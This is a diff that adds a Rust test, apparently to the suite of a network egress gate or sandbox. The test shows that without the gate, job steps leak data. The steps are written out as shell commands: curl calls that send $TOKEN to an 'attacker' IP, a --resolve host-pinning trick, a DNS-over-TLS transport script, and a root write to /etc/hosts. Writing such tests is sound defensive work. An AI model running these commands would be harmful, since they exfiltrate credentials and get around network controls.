@@ -307,3 +307,27 @@ fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
     );
     Ok(())
 }
+
+#[test]
+fn without_a_gate_the_same_calls_get_through() -> Result<()> {
+    let gate = Gate::without(World::builder())?;
+    gate.world().add_address("10.0.0.1".parse()?)?;
+    gate.release("tcp-203.0.113.66")?;
+    let script = "dig +short A private.special.test\ncurl -ksS --max-time 5 https://private.special.test/\n\
+                  python3 -S $ATTACKS/transport.py tcp 203.0.113.66 853\n\
+                  curl -ksS --max-time 5 --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN\n";
+    let mut job = gate.job();
+    job.steps = vec![
+        step("calls", script),
+        root_step("hosts", "echo 203.0.113.66 ok.test >> /etc/hosts"),
+        step("pinned", "curl -ksS --max-time 5 https://ok.test/$TOKEN"),
+    ];
+    let result = gate.begin(&job)?.wait()?;
+    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
+    ensure!(result.log().contains("10.0.0.1"), "{}", result.log());
+    gate.assert_leaked()?;
+    let ports: Vec<u16> =
+        gate.world().attacker().streams().iter().map(|stream| stream.port).collect();
+    ensure!(ports == [853, 443, 443], "the attacker was called on {ports:?}");
+    Ok(())
+}
